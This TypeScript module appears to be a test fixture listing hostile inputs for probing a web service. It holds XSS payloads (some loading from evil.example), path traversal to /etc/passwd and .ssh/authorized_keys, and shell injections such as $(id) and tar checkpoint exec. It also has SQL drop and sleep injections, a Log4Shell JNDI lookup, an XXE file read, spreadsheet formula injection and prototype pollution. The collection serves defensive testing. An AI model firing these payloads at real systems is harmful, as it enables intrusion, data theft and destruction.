/*
 * What hostile callers send, by kind. Each value is text; `raw` ones are JSON as it is written, so that what no program
 * of ours could write is among them.
 */

/** Each would show a dialog, or call home, where it became part of a page. */
export const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><img src=x onerror=alert(3)>",
  '<svg onload=alert(4)>',
  '<svg><script>alert(5)</script></svg>',
  '</script><script>alert(6)</script>',
  '</title><script>alert(7)</script>',
  '</textarea><img src=x onerror=alert(8)>',
  '<iframe src="javascript:alert(9)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(10)</script>">',
  '<body onload=alert(11)>',
  '<details open ontoggle=alert(12)>x</details>',
  '<input autofocus onfocus=alert(13)>',
  '<a href="javascript:alert(14)">click</a>',
  '[click](javascript:alert(15))',
  '![x](x" onerror="alert(16))',
  'javascript:alert(17)',
  'data:text/html,<script>alert(18)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(19)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<form action="//evil.example/"><button>ok</button></form>',
  '{{constructor.constructor("alert(25)")()}}',
]

/** Names that would lie outside their folder, or be something else than a name, where they were used as a path. */
export const traversals: readonly string[] = [
  '..',
  '.',
  '../x',
  '../../etc/passwd',
  '../../../../../../../../tmp/outside',
  'a/../../outside',
  '/etc/passwd',
  '//host/share',
  '/',
  '\\',
  '..\\..\\outside',
  'C:\\outside',
  'C:outside',
  '\\\\host\\share',
  '%2e%2e%2foutside',
  '%2e%2e/outside',
  '..%2foutside',
  '..%5coutside',
  '%252e%252e%252foutside',
  '..%c0%afoutside',
  '..\u2215outside',
  '..\uff0foutside',
  '....//outside',
  '.../...//outside',
  '~/outside',
  '$HOME/outside',
  '`id`',
  '$(id)',
  '| id',
  '; id',
  '-rf',
  '--checkpoint-action=exec=id',
  'CON',
  'nul.txt',
  'aux',
  'name.',
  'name ',
  ' name',
  '.ssh/authorized_keys',
  'n'.repeat(300),
]

/** Text that means something to a database, a directory, a template, a header or a log. */
export const injections: readonly string[] = [
  "'",
  '"',
  "' or '1'='1",
  "'; drop table person; --",
  '1; select pg_sleep(10)',
  "' union select null,null,null--",
  "1' and pg_sleep(10) is null--",
  '") or 1=1--',
  '%',
  '_%_%_%_%',
  '\\',
  "$$;select 'x'$$",
  '{"$ne":null}',
  '{"$where":"sleep(1000)"}',
  '*)(uid=*))(|(uid=*',
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '#set page(width: 1cm)',
  '#read("/etc/passwd")',
  '${jndi:ldap://evil.example/x}',
  'name\r\nBcc: victim@evil.example',
  'name\nSet-Cookie: x=1',
  'a@b.example,c@evil.example',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '(a+)+$',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  '(?:',
  '[',
]

/** What a spreadsheet takes for a formula, or for the end of a field. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  'a\tb\nc',
  '"a",\r\n"b"',
]

/** Text that is no plain text: controls, halves of characters, what turns the direction of writing. */
export const oddText: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u200b',
  '\u202egnp.exe',
  '\u2066x\u2069',
  '\u2028',
  '\ufeff',
  '\uffff',
  '\ud800',
  'a\udc00',
  'e\u0301'.repeat(50),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  'x'.repeat(10_000),
]

/** JSON of another type than anybody asked for, as it is written. */
const confusions: readonly string[] = [
  'null',
  'true',
  'false',
  '0',
  '-1',
  '1.5',
  '1e400',
  '-1e400',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  '1e-400',
  '[]',
  '[[]]',
  '[null]',
  '["x"]',
  '["x","x"]',
  '{}',
  '{"length":1}',
  '{"toString":1}',
  '{"then":1}',
  '{"toJSON":1,"valueOf":2}',
  '{"__proto__":{"roles":["administrator"]}}',
  '{"constructor":{"prototype":{"isStrong":true}}}',
  '{"$gt":""}',
  '"__proto__"',
  '"constructor"',
  '"toString"',
  '"hasOwnProperty"',
  `${'['.repeat(500)}${']'.repeat(500)}`,
  `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`,
  `[${'0,'.repeat(20_000)}0]`,
]

/** Bodies that are no JSON object, with the type that they call themselves. */
export const wrongBodies: readonly (readonly [type: string, text: string])[] = [
  ['application/json', ''],
  ['application/json', '{'],
  ['application/json', '{"a":1,}'],
  ['application/json', 'NaN'],
  ['application/json', 'null'],
  ['application/json', '"text"'],
  ['application/json', '[]'],
  ['application/json', '7'],
  ['application/json', '{"__proto__":{"x":1}}'],
  ['application/json', '\u0000'],
  ['application/json', `"${'x'.repeat(1_100_000)}"`],
  ['application/json; charset=utf-7', '{}'],
  ['application/json; charset=\u00e9', '{}'],
  ['text/plain', '{}'],
  ['text/html', '<script>alert(1)</script>'],
  ['application/xml', '<x/>'],
  ['application/x-www-form-urlencoded', 'a=b&a=c&__proto__=d'],
  ['multipart/form-data; boundary=x', '--x\r\n\r\n--x--'],
  ['application/octet-stream', '\u0001'],
  ['application/pdf', '%PDF-1.7'],
  ['x', '{}'],
  ['', '{}'],
]

/** Query strings that no browser of ours writes; `NAME` stands for a parameter that there is. */
export const wrongQueries: readonly string[] = [
  'NAME=a&NAME=b',
  'NAME[]=a',
  'NAME[$ne]=a',
  'NAME[__proto__][x]=a',
  '__proto__=x',
  '__proto__[x]=y',
  'constructor=x',
  'NAME=%',
  'NAME=%00',
  'NAME=%ED%A0%80',
  'NAME=%FF%FE',
  '&&&=&=',
  '=',
  `NAME=${'x'.repeat(6000)}`,
]

const texts = [...markup, ...traversals, ...injections, ...formulas, ...oddText]

/** Every value for a place in a JSON body, as it is written. A lone half of a character is written by its number. */
export const jsonValues: readonly string[] = [
  ...texts.map((text) => JSON.stringify(text)),
  ...confusions,
]

/** Every value for a place in an address, escaped: a lone half of a character as the bytes that it would be. */
export const addressValues: readonly string[] = [
  ...texts.map((text) =>
    text.isWellFormed()
      ? encodeURIComponent(text)
      : text.replaceAll(/[\ud800-\udfff]/g, '%ED%A0%80'),
  ),
  ...confusions.filter((text) => text.length < 1000).map((text) => encodeURIComponent(text)),
  ...['%', '%zz', '%00', '%FF', '..%2f..%2f', '%2e%2e%2f', '%C0%AE'],
]
